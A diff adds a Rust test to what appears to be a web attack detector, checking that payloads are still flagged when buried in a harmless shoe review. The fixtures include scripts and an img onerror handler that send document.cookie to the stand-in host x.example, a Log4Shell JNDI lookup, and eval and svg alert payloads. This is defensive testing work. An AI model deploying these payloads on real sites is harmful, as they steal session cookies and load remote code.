@@ -86,6 +86,27 @@ fn padding_hides_nothing() {
 }
 
 #[test]
+fn prose_around_it_hides_nothing_that_steals() {
+    let prose = "The parcel came on time, and the shoes fit well. My daughter wears them every day, which says a lot! \
+                 We had ordered two pairs before: one was too small, the other was sent back without any trouble. "
+        .repeat(3);
+    for attack in [
+        "<script>new Image().src='//x.example/?'+document.cookie</script>",
+        "<img src=x onerror=fetch('//x.example/'+document.cookie)>",
+        "<script>eval(atob('YWxlcnQoMSk='))</script>",
+        "${jndi:ldap://x.example/a}",
+        "<svg onload=alert(1)>",
+    ] {
+        let value = format!("{prose}{attack}{prose}");
+        assert!(
+            inspect(value.as_bytes(), Place::Body).is_some_and(|verdict| verdict.is_attack()),
+            "{attack}"
+        );
+    }
+    assert_eq!(inspect(prose.as_bytes(), Place::Body), None);
+}
+
+#[test]
 fn work_is_bounded() {
     // No input may cost more than so many looks a byte, whatever it repeats.
     for piece in [
